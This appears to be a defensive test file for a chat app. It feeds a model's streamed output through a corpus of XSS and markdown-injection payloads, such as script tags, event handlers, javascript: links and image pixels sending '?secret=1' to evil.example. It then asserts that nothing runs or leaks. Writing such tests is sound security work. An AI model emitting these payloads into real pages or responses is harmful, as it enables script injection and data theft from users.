// A model's words are never more than words: nothing runs, nothing is loaded, nothing is sent anywhere.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Chat, useApp } from '../harness.js'

const app = useApp({ model: 'held' })

/** What a model might be made to say. `bad` is called by all that would run. */
const CORPUS = [
  '<script>bad()</script>',
  '<img src=x onerror="bad()">',
  '<img src="https://evil.example/pixel.png?secret=1">',
  '<svg onload="bad()"><script>bad()</script></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>parent.bad()</script>"></iframe>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '<link rel="stylesheet" href="https://evil.example/style.css"><style>body { display: none }</style>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button formaction="javascript:bad()">Press</button></form>',
  '<details open ontoggle="bad()"><summary>More</summary></details>',
  '<a href="javascript:bad()">click</a> <a href="data:text/html,<script>bad()</script>">click</a>',
  '<video src="https://evil.example/video.mp4" autoplay onloadstart="bad()"></video>',
  '<input autofocus onfocus="bad()">',
  '<body onload="bad()">',
  '<math><mi xlink:href="javascript:bad()">x</mi></math>',
  '![pixel](https://evil.example/pixel.png?secret=1)',
  '![pixel][ref]\n\n[ref]: https://evil.example/reference.png "title"',
  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImJhZCgpIi8+)',
  '[![inner](https://evil.example/inner.png)](javascript:bad())',
  '[script](javascript:bad())',
  '[script]( java\tscript:bad() )',
  '[script](&#106;avascript:bad())',
  '[script](JaVaScRiPt:bad())',
  '[script](vbscript:bad())',
  '[data](data:text/html;base64,PHNjcmlwdD5iYWQoKTwvc2NyaXB0Pg==)',
  '[file](file:///etc/passwd)',
  '<javascript:bad()>',
  '<https://evil.example/auto>',
  'https://evil.example/bare',
  '[quote](https://evil.example/"onmouseover="bad()")',
  '[title](https://evil.example/ "x\\" onmouseover=\\"bad()")',
  '```html\n<script>bad()</script>\n```',
  '```"><img src=x onerror=bad()>\ncode\n```',
  '| a | b |\n| - | - |\n| <img src=x onerror=bad()> | [x](javascript:bad()) |',
  'Footnote[^1]\n\n[^1]: <img src=x onerror=bad()>',
  '- [ ] <script>bad()</script>',
  '<!-- <script>bad()</script> --> <![CDATA[<script>bad()</script>]]>',
  '{{constructor.constructor("bad()")()}} ${bad()} <%= bad() %>',
  '\u202Egnp.exe\u202C <scr\u0000ipt>bad()</scr\u0000ipt>',
]

test('whatever a model says is shown and does nothing', async (t) => {
  const agent = await app.owner.makeAgent({ name: '<img src=x onerror=bad()>', description: '<script>bad()</script>' })
  const page = await app.newPage(t)
  const evil = []
  let ran = false
  await page.exposeFunction('bad', () => {
    ran = true
  })
  page.context().on('request', (request) => {
    const { origin, protocol } = new URL(request.url())
    if (origin !== app.origin && protocol !== 'blob:' && protocol !== 'data:') evil.push(request.url())
  })
  await page.goto(`/agents/${agent.id}`)
  const chat = new Chat(page)
  await chat.send('<img src=x onerror=bad()> [me](javascript:bad())')
  const call = await app.model.call()
  // In small pieces, as it comes: what is half said must be as harmless as what is whole.
  for (const piece of CORPUS.join('\n\n').match(/[^]{1,7}/gu)) call.say(piece)
  call.end()
  await chat.settled()
  const answer = chat.answers.first()
  await answer.getByText('{{constructor.constructor').waitFor()

  const found = await answer.evaluate((element) => ({
    elements: [...element.querySelectorAll('script, iframe, object, embed, link, meta, base, style, form, video, input:not([type=checkbox])')].map(({ outerHTML }) => outerHTML),
    images: [...element.querySelectorAll('img')].map(({ outerHTML }) => outerHTML),
    handlers: [...element.querySelectorAll('*')].flatMap(({ attributes }) => [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on'))),
    links: [...element.querySelectorAll('a')].map(({ protocol }) => protocol).filter((protocol) => protocol !== 'https:'),
    leaky: [...element.querySelectorAll('a[target=_blank]')].filter(({ rel }) => !/noopener|noreferrer/.test(rel)).map(({ outerHTML }) => outerHTML),
  }))
  assert.deepEqual(found, { elements: [], images: [], handlers: [], links: [], leaky: [] })

  // Whatever can be touched is, but for what leads away.
  for (const link of await answer.locator('a').all()) await link.hover({ force: true }).catch(() => undefined)
  await page.goto('/agents/hired')
  await page.getByRole('heading', { name: '<img src=x onerror=bad()>' }).waitFor()
  assert.equal(ran, false)
  assert.deepEqual(evil, [])
})

test('a picture from elsewhere is a link until somebody asks for it', async (t) => {
  const agent = await app.owner.makeAgent({ name: 'Painter' })
  const page = await app.newPage(t)
  await page.context().route('https://pictures.example/**', (route) => route.fulfill({ contentType: 'text/plain', body: 'A bike.' }))
  const fetched = () => page.seenRequests.map((request) => request.url()).filter((url) => url.includes('pictures.example'))
  await page.goto(`/agents/${agent.id}`)
  const chat = new Chat(page)
  await chat.send('Show me')
  ;(await app.model.call()).say('![A red bike](https://pictures.example/bike.png)').end()
  await chat.settled()
  const link = chat.answers.getByRole('link', { name: /^A red bike pictures\.example/ })
  await link.waitFor()
  assert.equal(await chat.answers.locator('img').count(), 0)
  assert.deepEqual(fetched(), [])

  const [picture] = await Promise.all([page.context().waitForEvent('page'), link.click()])
  await picture.getByText('A bike.').waitFor()
  assert.deepEqual(fetched(), ['https://pictures.example/bike.png'])
  assert.equal(await picture.evaluate(() => window.opener === null && document.referrer === ''), true, 'it knows not who asked')
})
